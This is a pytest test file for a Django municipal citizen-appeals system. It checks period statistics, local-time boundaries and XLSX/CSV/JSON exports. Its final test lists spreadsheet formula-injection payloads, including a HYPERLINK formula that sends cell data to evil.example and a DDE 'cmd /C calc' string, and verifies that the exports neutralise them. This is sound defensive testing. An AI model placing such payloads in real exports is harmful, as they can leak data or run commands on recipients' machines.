"""The appeals summary for a period: every figure on a fixed data set built through the services,
the local-time boundaries of the period, and the XLSX, CSV and JSON exports."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.utils import timezone
from django_tenants.utils import schema_context
from openpyxl import load_workbook

from gorodok_platform.accounts.models import User
from gorodok_services.appeals import services
from gorodok_services.appeals.exports import (
    SECTION_LABELS,
    SUMMARY_LABELS,
    statistics_csv,
    statistics_rows,
    statistics_xlsx,
)
from gorodok_services.appeals.models import Appeal, AppealStatus, DeadlineRule, NoAnswerReason, QuestionResult
from gorodok_services.appeals.services import AppealIntake, QuestionInput
from gorodok_services.appeals.statistics import appeal_statistics

KRASNOYARSK = ZoneInfo("Asia/Krasnoyarsk")
MARCH = {"date_from": date(2026, 3, 1), "date_to": date(2026, 3, 31)}

ROADS = "0003.0009.0097.0684"
SNOW = "0003.0009.0097.0685"
LIGHTING = "0003.0009.0097.0690"
POLLUTION = "0003.0011.0136.0999"
HEATING = "0005.0005.0057.1153"
PAYMENT = "0005.0005.0056.1149"
YARDS = "0005.0005.0058.1164"
GREENERY = "0005.0005.0058.1165"
SIDEWALKS = "0005.0005.0058.1163"
APPEALS_WORK = "0001.0002.0027.0114"
LOCAL_BODIES = "0001.0002.0024.0094"
SCHOOLS = "0002.0006.0063.0384"
SPORTS = "0002.0007.0074.0496"
CRIME = "0004.0015.0153.1034"


def local(day: int, hour: int, minute: int = 0, *, month: int = 3) -> datetime:
    """A Krasnoyarsk wall-clock time of 2026 as an aware datetime (compared in UTC by the database)."""
    return datetime(2026, month, day, hour, minute, tzinfo=KRASNOYARSK)


class Clock:
    """Stands in for ``timezone.now``: every step of the data set happens at its own moment."""

    def __init__(self, monkeypatch):
        self.moment = timezone.now()
        monkeypatch.setattr(timezone, "now", lambda: self.moment)

    def at(self, moment: datetime) -> Clock:
        self.moment = moment
        return self


class Builder:
    """Receives and registers appeals through the services, each at its own moment."""

    def __init__(self, clock: Clock):
        self.clock = clock

    def receive(self, number: str, *, channel: str, kind: str, codes: list[str], received: datetime,
                **extra) -> Appeal:
        self.clock.at(received)
        data = {
            "channel": channel, "kind": kind, "subject": f"Обращение {number}", "text": "Текст обращения.",
            "questions": [QuestionInput(code, "") for code in codes], "applicant_name": "Петров Пётр Петрович",
            "applicant_address": "г. Альфа, ул. Мира, 3", "external_number": number, "received_at": received,
        }
        data.update(extra)
        appeal, created = services.appeal_receive(data=AppealIntake(**data))
        assert created
        return appeal

    def register(self, appeal: Appeal, moment: datetime) -> Appeal:
        self.clock.at(moment)
        return services.appeal_register(appeal=appeal, registered_at=moment).appeal

    def appeal(self, number: str, *, registered: datetime, **intake) -> Appeal:
        return self.register(self.receive(number, **intake), registered)


def build_data_set(clock: Clock, executor: User) -> None:
    """Thirteen appeals registered (or, unregistered, received) in March 2026, local time, and four outside."""
    make = Builder(clock)

    # Outside: registered in January, answered on 10 February; A4 repeats it.
    b0 = make.appeal("B0", channel="post", kind="statement", codes=[ROADS], received=local(14, 10, month=1),
                     registered=local(15, 9, month=1))
    clock.at(local(10, 12, month=2))
    services.appeal_answer(appeal=b0, answer_text="Отремонтировано.")

    # A1: platform statement, answered (measures taken) on 20 March and closed on the 21st; on site, under control.
    a1 = make.appeal("A1", channel="feedback_platform", kind="statement", codes=[ROADS], received=local(2, 10),
                     registered=local(2, 12))
    services.appeal_assign(appeal=a1, executor=executor)
    services.appeal_take_under_control(appeal=a1, actor=executor, reason="Поручение главы")
    clock.at(local(19, 15))
    services.appeal_mark_considered_on_site(appeal=a1, actor=executor, reason="Выезд на место")
    clock.at(local(20, 11))
    services.appeal_answer(appeal=a1, answer_text="Яма заделана.", results={1: QuestionResult.MEASURES_TAKEN})
    clock.at(local(21, 9))
    services.appeal_close(appeal=a1)

    # A2: posted complaint, two questions, answered late on 20 April (due 3 April); under control.
    a2 = make.appeal("A2", channel="post", kind="complaint", codes=[HEATING, PAYMENT], received=local(3, 10),
                     registered=local(4, 9))
    services.appeal_take_under_control(appeal=a2, actor=executor, reason="Жалоба на отопление зимой")
    clock.at(local(20, 10, month=4))
    services.appeal_answer(appeal=a2, answer_text="Разъяснено.",
                           results={1: QuestionResult.EXPLAINED, 2: QuestionResult.NOT_SUPPORTED})

    # A3: collective proposal at a personal reception, extended on 30 March by 20 days.
    a3 = make.appeal("A3", channel="personal_reception", kind="proposal", codes=[YARDS], received=local(5, 11),
                     is_collective=True, signatories=25, registered=local(5, 11, 30))
    clock.at(local(30, 10))
    services.appeal_extend(appeal=a3, days=20, reason="Нужна выездная проверка")

    # A4: "other", delivered in person, registered 00:30 on 1 March (in), repeats B0; due 31 March, never answered.
    a4 = make.appeal("A4", channel="in_person", kind="other", codes=[APPEALS_WORK], received=local(1, 0, 20),
                     registered=local(1, 0, 30))
    services.appeal_assign(appeal=a4, executor=executor)
    services.appeal_mark_repeated(appeal=a4, repeats=b0)

    # A5: integrator statement from a legal entity, forwarded by competence on 12 March.
    a5 = make.appeal("A5", channel="integrator", kind="statement", codes=[LIGHTING], received=local(10, 9),
                     applicant_type="legal_entity", applicant_name="ООО «Ромашка»", applicant_inn="1901123458",
                     registered=local(10, 10))
    clock.at(local(12, 15))
    services.appeal_forward(appeal=a5, to="Министерство транспорта Республики Хакасия")

    # A6: platform message registered at 23:30 local on 31 March, the last day of the period: in.
    make.appeal("A6", channel="feedback_platform", kind="platform_message", codes=[SNOW], received=local(31, 23),
                registered=local(31, 23, 30))

    # A7: anonymous posted statement, left without an answer on 17 March.
    a7 = make.appeal("A7", channel="post", kind="statement", codes=[CRIME], received=local(15, 10),
                     applicant_type="anonymous", applicant_name="", applicant_address="", registered=local(16, 10))
    clock.at(local(17, 10))
    services.appeal_leave_without_answer(appeal=a7, reason=NoAnswerReason.ANONYMOUS)

    # A8: complaint received on 30 March, not registered yet, registration due 2 April: open, not late.
    make.receive("A8", channel="other", kind="complaint", codes=[POLLUTION], received=local(30, 10))

    # A9: platform statement received on 20 March, never registered (due 23 March): open and late.
    make.receive("A9", channel="feedback_platform", kind="statement", codes=[SCHOOLS], received=local(20, 10))

    # A10: information request (8-FZ) by post, answered on 25 March (answer given), not closed.
    a10 = make.appeal("A10", channel="post", kind="information_request", codes=[LOCAL_BODIES], received=local(11, 9),
                      registered=local(11, 10))
    clock.at(local(25, 16))
    services.appeal_answer(appeal=a10, answer_text="Сведения направлены.")

    # A11: proposal in person, two questions, answered on 26 March: supported, measures taken.
    a11 = make.appeal("A11", channel="in_person", kind="proposal", codes=[GREENERY, SIDEWALKS], received=local(12, 9),
                      registered=local(12, 10))
    clock.at(local(26, 12))
    services.appeal_answer(appeal=a11, answer_text="Работы выполнены.",
                           results={1: QuestionResult.SUPPORTED, 2: QuestionResult.MEASURES_TAKEN})

    # A12: posted statement, registered 6 March; on 16 March its author is told it cannot be understood,
    # late (due 13 March): left without an answer (the general rule's reading).
    a12 = make.appeal("A12", channel="post", kind="statement", codes=[PAYMENT], received=local(6, 10),
                      registered=local(6, 11))
    clock.at(local(16, 10))
    services.appeal_request_clarification(appeal=a12, note="Не ясно, о каком счёте речь.")

    # A13: complaint delivered in person, registered 20 March; complaints pause for a clarification here:
    # the author is told on 23 March (in time), and it still waits at the end of March.
    DeadlineRule.objects.filter(kind="complaint", category_prefix="").update(unclear_handling="pause")
    a13 = make.appeal("A13", channel="in_person", kind="complaint", codes=[YARDS], received=local(20, 9),
                      registered=local(20, 10))
    clock.at(local(23, 10))
    services.appeal_request_clarification(appeal=a13, note="Какой двор?")

    # Outside: received on 31 March but registered at 00:30 on 1 April — belongs to April.
    b1 = make.appeal("B1", channel="personal_reception", kind="complaint", codes=[SPORTS], received=local(31, 22),
                     is_collective=True, signatories=3, registered=local(1, 0, 30, month=4))
    services.appeal_take_under_control(appeal=b1, actor=executor, reason="Коллективная жалоба")
    services.appeal_mark_considered_on_site(appeal=b1, actor=executor, reason="Выезд на стадион")
    # Outside: registered at 23:30 on 28 February — belongs to February; repeats B0.
    b2 = make.appeal("B2", channel="integrator", kind="proposal", codes=[HEATING], received=local(28, 20, month=2),
                     registered=local(28, 23, 30, month=2))
    services.appeal_mark_repeated(appeal=b2, repeats=b0)
    services.appeal_mark_considered_on_site(appeal=b2, actor=executor, reason="Осмотр котельной")
    # Outside: received on 1 April and not registered.
    make.receive("B3", channel="feedback_platform", kind="complaint", codes=[CRIME], received=local(1, 1, month=4))


@pytest.fixture
def march(alpha, monkeypatch):
    """alpha's schema holding the data set; yields the March 2026 summary."""
    clock = Clock(monkeypatch)
    with schema_context(alpha.schema_name):
        executor = User.objects.get(email=alpha.admin_email)
        build_data_set(clock, executor)
        assert Appeal.objects.count() == 17
        assert Appeal.objects.get(external_number="A2").status == AppealStatus.ANSWERED
        yield appeal_statistics(**MARCH)


EXPECTED_SCALARS = {
    "appeals": 13, "repeated": 1, "collective": 1, "under_control": 2, "information_requests": 1,
    "platform_messages": 1, "questions": 15, "considered_on_site": 1, "considered_late": 3,
    "under_consideration": 7, "personal_receptions": 1,
    "unclear_notices": 2, "unclear_notices_late": 1, "awaiting_clarification": 1,
}
EXPECTED_FORMS = {"written": 8, "electronic": 4, "oral": 1}
EXPECTED_CHANNELS = {"feedback_platform": 3, "personal_reception": 1, "post": 4, "in_person": 3, "integrator": 1,
                     "other": 1}
EXPECTED_KINDS = {"proposal": 2, "statement": 5, "complaint": 3, "other": 1}
EXPECTED_RESULTS = {
    "not_received": 0, "not_registered": 0, "under_consideration": 5, "explained": 1, "supported": 1,
    "measures_taken": 2, "not_supported": 1, "forwarded": 1, "answer_given": 1, "without_answer": 2, "extended": 1,
}
EXPECTED_SECTIONS = {"0001": 2, "0002": 1, "0003": 4, "0004": 1, "0005": 7}
EXPECTED_THEMES = {"0001.0002": 2, "0002.0006": 1, "0003.0009": 3, "0003.0011": 1, "0004.0015": 1, "0005.0005": 7}


def test_every_figure_of_the_summary(march):
    stats = march
    assert {key: getattr(stats, key) for key in EXPECTED_SCALARS} == EXPECTED_SCALARS
    assert stats.by_form == EXPECTED_FORMS
    assert stats.by_channel == EXPECTED_CHANNELS
    assert stats.by_kind == EXPECTED_KINDS
    assert stats.by_result == EXPECTED_RESULTS
    assert {row.code: row.questions for row in stats.by_section} == EXPECTED_SECTIONS
    assert {row.code: row.questions for row in stats.by_theme} == EXPECTED_THEMES
    titles = {row.code: row.title for row in [*stats.by_section, *stats.by_theme]}
    assert titles["0005"] == "Жилищно-коммунальная сфера"
    assert titles["0001"] == "Государство, общество, политика"
    assert titles["0003.0009"] == "Хозяйственная деятельность"
    assert titles["0005.0005"] == "Жилище"
    # The parts add up.
    assert sum(stats.by_kind.values()) + stats.information_requests + stats.platform_messages == stats.appeals
    assert sum(stats.by_form.values()) == sum(stats.by_channel.values()) == stats.appeals
    assert sum(stats.by_result.values()) == sum(EXPECTED_SECTIONS.values()) == stats.questions
    assert (stats.date_from, stats.date_to, stats.timezone, stats.municipality) == (
        date(2026, 3, 1), date(2026, 3, 31), "Asia/Krasnoyarsk", "Альфа")


def test_period_boundaries_are_local_dates(march):
    # 23:30 local on 31 March is 16:30 UTC: in March. 00:30 local on 1 April is 17:30 UTC on 31 March: out.
    assert local(31, 23, 30).astimezone(ZoneInfo("UTC")) == datetime(2026, 3, 31, 16, 30, tzinfo=ZoneInfo("UTC"))
    b1 = Appeal.objects.get(external_number="B1")
    assert b1.registered_at == datetime(2026, 3, 31, 17, 30, tzinfo=ZoneInfo("UTC"))
    assert appeal_statistics(date_from=date(2026, 3, 31), date_to=date(2026, 3, 31)).appeals == 1  # A6 only
    april_first = appeal_statistics(date_from=date(2026, 4, 1), date_to=date(2026, 4, 1))
    assert (april_first.appeals, april_first.personal_receptions, april_first.collective) == (2, 1, 1)  # B1, B3
    # 00:30 local on 1 March (17:30 UTC on 28 February) is in March; 23:30 local on 28 February is not.
    assert appeal_statistics(date_from=date(2026, 3, 1), date_to=date(2026, 3, 1)).appeals == 1  # A4
    february = appeal_statistics(date_from=date(2026, 2, 28), date_to=date(2026, 2, 28))
    assert (february.appeals, february.repeated, february.by_kind["proposal"]) == (1, 1, 1)  # B2


def test_open_and_late_are_judged_at_the_end_of_the_period(march):
    early = appeal_statistics(date_from=date(2026, 3, 1), date_to=date(2026, 3, 19))
    # Registered by then: A1, A2, A3, A4, A5, A7, A10, A11, A12; unregistered received: none (A9 on the 20th).
    assert early.appeals == 9
    # Open at the end of 19 March: A1, A2, A3, A4, A10, A11 (A5 forwarded, A7 closed on the 17th, A12 on the 16th).
    assert early.under_consideration == 6
    # A12's author was told late; A13 was not registered yet.
    assert (early.unclear_notices, early.unclear_notices_late, early.awaiting_clarification) == (1, 1, 0)
    # Late: A2 only (answered late later); A4 is due on 31 March, not yet past due.
    assert early.considered_late == 1


def test_summary_takes_a_handful_of_queries(march, django_assert_max_num_queries):
    with django_assert_max_num_queries(6):
        appeal_statistics(**MARCH)


def test_a_period_that_ends_before_it_starts_is_refused(alpha):
    with schema_context(alpha.schema_name), pytest.raises(ValidationError):
        appeal_statistics(date_from=date(2026, 3, 2), date_to=date(2026, 3, 1))


def test_as_dict_is_json(march):
    data = json.loads(json.dumps(march.as_dict()))
    assert data["date_from"] == "2026-03-01" and data["appeals"] == 13
    assert data["by_result"] == EXPECTED_RESULTS
    assert {row["code"]: row["questions"] for row in data["by_section"]} == EXPECTED_SECTIONS


def _summary_values(sheet) -> dict[str, object]:
    return {row[0]: row[1] for row in sheet.iter_rows(values_only=True) if row and row[0] is not None}


def test_xlsx_holds_the_same_numbers(march):
    workbook = load_workbook(io.BytesIO(statistics_xlsx(march)))
    assert workbook.sheetnames == [str(SECTION_LABELS[key])
                                   for key in ("summary", "form", "channel", "kind", "result", "section", "theme")]
    summary = _summary_values(workbook.worksheets[0])
    for key, value in EXPECTED_SCALARS.items():
        assert summary[str(SUMMARY_LABELS[key])] == value
        assert isinstance(summary[str(SUMMARY_LABELS[key])], int)
    rows = statistics_rows(march)
    for section in ("form", "channel", "kind", "result"):
        sheet = workbook[str(SECTION_LABELS[section])]
        expected = {label: value for key, _code, label, value in rows if key == section}
        assert dict(list(sheet.iter_rows(values_only=True))[1:]) == expected
    sections = workbook[str(SECTION_LABELS["section"])]
    assert {code: n for code, _title, n in list(sections.iter_rows(values_only=True))[1:]} == EXPECTED_SECTIONS
    themes = workbook[str(SECTION_LABELS["theme"])]
    assert {code: n for code, _title, n in list(themes.iter_rows(values_only=True))[1:]} == EXPECTED_THEMES
    results = workbook[str(SECTION_LABELS["result"])]
    assert sorted(value for _label, value in list(results.iter_rows(values_only=True))[1:]) == sorted(
        EXPECTED_RESULTS.values())


def test_csv_parses_and_matches(march):
    text = statistics_csv(march)
    assert text.startswith("\ufeff")
    parsed = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert len(parsed[0]) == 3
    body = parsed[1:]
    assert all(len(row) == 3 for row in body)
    expected = [[str(SECTION_LABELS[key]), label, str(value)] for key, _code, label, value in statistics_rows(march)]
    assert body == expected
    values = {(section, indicator): int(value) for section, indicator, value in body}
    summary = str(SECTION_LABELS["summary"])
    assert values[(summary, str(SUMMARY_LABELS["appeals"]))] == 13
    assert values[(summary, str(SUMMARY_LABELS["considered_late"]))] == 3
    assert values[(str(SECTION_LABELS["section"]), "0005 Жилищно-коммунальная сфера")] == 7


def test_command_writes_each_format(march, alpha, tmp_path):
    xlsx, csv_file, json_file = tmp_path / "march.xlsx", tmp_path / "march.csv", tmp_path / "march.json"
    common = ["--schema", alpha.schema_name, "--from", "2026-03-01", "--to", "2026-03-31"]
    call_command("appeals_statistics", *common, "--output", str(xlsx), stdout=io.StringIO())
    call_command("appeals_statistics", *common, "--format", "csv", "--output", str(csv_file), stdout=io.StringIO())
    call_command("appeals_statistics", *common, "--output", str(json_file), stdout=io.StringIO())
    summary = _summary_values(load_workbook(xlsx).worksheets[0])
    assert summary[str(SUMMARY_LABELS["appeals"])] == 13
    assert csv_file.read_bytes().startswith(b"\xef\xbb\xbf")
    assert csv_file.read_bytes().decode("utf-8") == statistics_csv(march)
    assert json.loads(json_file.read_text(encoding="utf-8")) == march.as_dict()
    out = io.StringIO()
    call_command("appeals_statistics", *common, "--format", "json", stdout=out)
    assert json.loads(out.getvalue())["under_consideration"] == 7


def test_command_refuses_an_unknown_schema(db):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError):
        call_command("appeals_statistics", "--schema", "nowhere", "--from", "2026-03-01", "--to", "2026-03-31")


HOSTILE_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                 "\t=1+1", "\r=1+1"]


def test_no_exported_text_cell_is_a_formula(march):
    """Text that came from outside (a municipality's name, classifier titles) never becomes a formula."""
    import dataclasses

    from gorodok_services.appeals.statistics import ClassifierRow

    hostile = dataclasses.replace(
        march, municipality=HOSTILE_CELLS[0],
        by_theme=[ClassifierRow(code=text, title=text, questions=-1) for text in HOSTILE_CELLS],
        by_section=[ClassifierRow(code="0001", title=text, questions=1) for text in HOSTILE_CELLS])
    workbook = load_workbook(io.BytesIO(statistics_xlsx(hostile)))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert "'" + HOSTILE_CELLS[0] in texts and "'@SUM(A1:A9)" in texts
    assert all(not text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)
    themes = workbook[str(SECTION_LABELS["theme"])]
    assert [row[2] for row in list(themes.iter_rows(values_only=True))[1:]] == [-1] * len(HOSTILE_CELLS)

    parsed = list(csv.reader(io.StringIO(statistics_csv(hostile).removeprefix("\ufeff")), delimiter=";"))
    cells = [cell for row in parsed for cell in row]
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert all(not cell.startswith("-") or cell.lstrip("-").isdigit() for cell in cells)  # numbers stay numbers
    assert "0001 -2+3" in cells  # text that does not start like a formula is left as it is
    assert "'-2+3 -2+3" in cells
